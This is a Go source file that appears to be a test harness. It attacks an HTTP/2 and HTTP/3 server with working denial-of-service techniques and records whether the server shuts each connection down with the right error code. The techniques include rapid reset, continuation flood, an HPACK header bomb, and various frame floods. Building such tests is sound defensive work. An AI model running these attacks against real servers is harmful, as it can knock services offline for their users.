// SPDX-License-Identifier: EUPL-1.2

package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// hostileRole is the first argument of a rig that is started again to be hostile.
const hostileRole = "hostile"

// hostileTime is how long a hostile connection goes on if nobody ends it.
const hostileTime = 5 * time.Second

// comesAgain is how long whoever was closed stays away.
const comesAgain = 250 * time.Millisecond

// calm is how connections of those who waste our time end: ENHANCE_YOUR_CALM of HTTP/2, H3_EXCESSIVE_LOAD of HTTP/3.
const (
	calmHTTP2 = uint64(http2.ErrCodeEnhanceYourCalm)
	calmHTTP3 = uint64(http3.ErrCodeExcessiveLoad)
)

// hostility is one way to waste a server's time.
type hostility struct {
	name  string
	quic  bool
	stays bool // what it does is not forbidden: it must only hurt nobody
	// http2 or http3 does a bit of it, again and again until it fails.
	http2 func(a *attacker) error
	http3 func(a *attacker) error
}

var hostilities = [...]hostility{
	{name: "rapid reset", http2: func(a *attacker) error { a.ask(true); return a.framer.WriteRSTStream(a.id, http2.ErrCodeCancel) }},
	{name: "made you reset", http2: func(a *attacker) error { a.ask(true); return a.framer.WriteWindowUpdate(a.id, 0) }},
	{name: "continuation flood", http2: func(a *attacker) error {
		if a.round > 0 {
			return a.framer.WriteContinuation(a.id, false, []byte("\x00\x01a\x01b"))
		}
		a.id = 1
		return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.head})
	}},
	{name: "header bomb", http2: (*attacker).bomb},
	{name: "ping flood", http2: func(a *attacker) error { return a.framer.WritePing(false, [8]byte{}) }},
	{name: "settings flood", http2: func(a *attacker) error {
		return a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(a.round & 0xffff)})
	}},
	{name: "priority flood", http2: func(a *attacker) error {
		return a.framer.WritePriority(uint32(2*a.round+1)&0xffff|1, http2.PriorityParam{Weight: 1})
	}},
	{name: "window drip", http2: func(a *attacker) error { return a.framer.WriteWindowUpdate(0, 1) }},
	{name: "empty data", http2: func(a *attacker) error { return a.upload("") }},
	{name: "one-byte data", http2: func(a *attacker) error { return a.upload("x") }},
	{name: "zero windows", stays: true, http2: func(a *attacker) error {
		if a.round < 100 {
			a.ask(true)
			return nil
		}
		time.Sleep(10 * time.Millisecond)
		return a.framer.WriteWindowUpdate(1, 1)
	}},
	{name: "h3 rapid reset", quic: true, http3: func(a *attacker) error {
		s, err := a.quic.OpenStreamSync(a.quic.Context())
		if err != nil {
			return err
		}
		_, err = s.Write(http3Request)
		s.CancelWrite(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
		s.CancelRead(quic.StreamErrorCode(http3.ErrCodeRequestCanceled))
		return err
	}},
	{name: "h3 frames of no meaning", quic: true, http3: func(a *attacker) error { _, err := a.control.Write(bytes.Repeat([]byte{0x21, 0}, 100)); return err }},
	{name: "h3 instructions", quic: true, http3: func(a *attacker) error {
		if a.round == 0 {
			var err error
			if a.control, err = a.quic.OpenUniStream(); err != nil {
				return err
			}
			_, _ = a.control.Write([]byte{2}) // the encoder's
		}
		_, err := a.control.Write(bytes.Repeat([]byte{0x20}, 200))
		return err
	}},
	{name: "h3 unknown streams", quic: true, http3: func(a *attacker) error {
		s, err := a.quic.OpenUniStreamSync(a.quic.Context())
		if err != nil {
			return err
		}
		_, err = s.Write([]byte{0x21, 0})
		return errors.Join(err, s.Close())
	}},
}

// http3Request is the HEADERS frame of a GET for /16k, from QPACK's static table but for the authority and the path.
var http3Request = func() []byte {
	section := append([]byte{0, 0, 0xd1, 0xd7, 0x50, byte(len(tlsHost))}, tlsHost...)
	section = append(section, append([]byte{0x51, 4}, "/16k"...)...)
	return append([]byte{1, byte(len(section))}, section...)
}()

// attacker is one hostile connection.
type attacker struct {
	round  int // bits done
	id     uint32
	out    bytes.Buffer
	framer *http2.Framer
	head   []byte // of a GET
	post   []byte // of a POST

	quic    *quic.Conn
	control *quic.SendStream
}

// hostileReport is what became of the connections of one kind.
type hostileReport struct {
	Connections int     `json:"connections"`
	Calmed      int     `json:"calmed"`     // closed with the code for it
	Unheard     int     `json:"unheard"`    // closed, and the code was lost: who goes on sending is reset behind it
	Others      int     `json:"others"`     // ended in another way
	Stayed      int     `json:"stayed"`     // not closed in hostileTime, or at the end of the round
	SlowestMS   float64 `json:"slowest_ms"` // from the first wasted octet to the close
}

// hostile is the role: `hostile PLAIN SECURE`, four kinds a line by their numbers, and an empty line to end that round,
// which is answered by what became of them. Whoever was closed comes again.
func hostile(args []string, in io.Reader, out io.Writer) error {
	if len(args) != 2 {
		return errors.New("hostile PLAIN SECURE")
	}
	lines := json.NewDecoder(in)
	for {
		var kinds []int
		if err := lines.Decode(&kinds); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return fmt.Errorf("hostile: %w", err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		reports := make([]hostileReport, len(kinds))
		var wg sync.WaitGroup
		for i, k := range kinds {
			wg.Go(func() {
				for ctx.Err() == nil {
					reports[i].attack(ctx, &hostilities[k], args)
					time.Sleep(comesAgain)
				}
			})
		}
		var stop struct{}
		err := lines.Decode(&stop)
		cancel()
		wg.Wait()
		if err = errors.Join(err, json.NewEncoder(out).Encode(reports)); err != nil {
			return fmt.Errorf("hostile: %w", err)
		}
	}
}

// attack opens a connection, is hostile until it ends, and notes how.
func (r *hostileReport) attack(ctx context.Context, h *hostility, addresses []string) {
	ctx, cancel := context.WithTimeout(ctx, hostileTime)
	defer cancel()
	r.Connections++
	do := attackHTTP2
	if h.quic {
		do = attackHTTP3
	}
	began, code, ended := do(ctx, h, addresses)
	took := float64(time.Since(began).Microseconds()) / 1e3
	switch {
	case !ended:
		r.Stayed++
		return
	case code == calmHTTP2 || code == calmHTTP3:
		r.Calmed++
	case code == noCode:
		r.Unheard++
	default:
		r.Others++
	}
	r.SlowestMS = max(r.SlowestMS, took)
}

// noCode is of a connection that ended without one.
const noCode = ^uint64(0)

func attackHTTP2(ctx context.Context, h *hostility, addresses []string) (began time.Time, code uint64, ended bool) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", addresses[0])
	if err != nil {
		return time.Now(), noCode, ctx.Err() == nil
	}
	defer c.Close()
	heard := make(chan uint64, 1)
	go func() { heard <- goAway(c) }()
	a := &attacker{}
	a.begin(h)
	began = time.Now()
	_ = c.SetWriteDeadline(began.Add(hostileTime))
	for err == nil {
		for err == nil && a.out.Len() < 8<<10 && (a.out.Len() == 0 || !h.stays) {
			err = h.http2(a)
			a.round++
		}
		if err == nil {
			_, err = a.out.WriteTo(c)
		}
		select {
		case code = <-heard:
			return began, code, true
		case <-ctx.Done():
			return began, noCode, false
		default:
		}
	}
	select {
	case code = <-heard:
		return began, code, true
	case <-ctx.Done():
		return began, noCode, false
	}
}

// goAway reads to the end and returns the code of the last GOAWAY.
func goAway(c net.Conn) uint64 {
	framer, code := http2.NewFramer(io.Discard, c), noCode
	for {
		f, err := framer.ReadFrame()
		if err != nil {
			return code
		}
		if g, ok := f.(*http2.GoAwayFrame); ok {
			code = uint64(g.ErrCode)
		}
	}
}

func (a *attacker) begin(h *hostility) {
	a.out.WriteString(http2.ClientPreface)
	a.framer = http2.NewFramer(&a.out, nil)
	a.framer.AllowIllegalWrites = true
	var settings []http2.Setting
	if h.stays {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	_ = a.framer.WriteSettings(settings...) // into memory
	section := func(method string) []byte {
		var b bytes.Buffer
		e := hpack.NewEncoder(&b)
		for _, f := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", tlsHost}, {":path", "/16k"}} {
			_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // nothing for the table
		}
		return b.Bytes()
	}
	a.head, a.post = section("GET"), section("POST")
}

// ask opens the next stream.
func (a *attacker) ask(end bool) {
	a.id = uint32(2*a.round + 1)
	_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.id, BlockFragment: a.head, EndStream: end, EndHeaders: true})
}

// upload goes on with one body.
func (a *attacker) upload(data string) error {
	if a.round == 0 {
		a.id = 1
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.post, EndHeaders: true})
	}
	return a.framer.WriteData(a.id, false, []byte(data))
}

// bomb puts a field of 4000 octets into the table, and then refers to it thousands of times by an octet each.
func (a *attacker) bomb() error {
	block := bytes.Clone(a.head)
	if a.round == 0 {
		block = append(block, 0x40, 1, 'a', 0x7f)
		block = binary.AppendUvarint(block, 4000-127)
		block = append(block, bytes.Repeat([]byte("b"), 4000)...)
	}
	block = append(block, bytes.Repeat([]byte{0xbe}, 8000)...)
	a.id = uint32(2*a.round + 1)
	return a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.id, BlockFragment: block, EndStream: true, EndHeaders: true})
}

func attackHTTP3(ctx context.Context, h *hostility, addresses []string) (began time.Time, code uint64, ended bool) {
	began = time.Now()
	c, err := quic.DialAddr(ctx, addresses[1], holdSecure(http3.NextProtoH3), &quic.Config{MaxIdleTimeout: hostileTime})
	if err != nil {
		return began, noCode, ctx.Err() == nil
	}
	defer func() { _ = c.CloseWithError(quic.ApplicationErrorCode(http3.ErrCodeNoError), "") }()
	a := &attacker{quic: c}
	if a.control, err = c.OpenUniStream(); err == nil {
		_, err = a.control.Write([]byte{0, 4, 0}) // the control stream, with empty SETTINGS
	}
	for began = time.Now(); err == nil && ctx.Err() == nil; a.round++ {
		err = h.http3(a)
	}
	select {
	case <-c.Context().Done():
	case <-ctx.Done():
		return began, noCode, false
	}
	var app *quic.ApplicationError
	if errors.As(context.Cause(c.Context()), &app) && app.Remote {
		return began, uint64(app.ErrorCode), true
	}
	return began, noCode, true
}
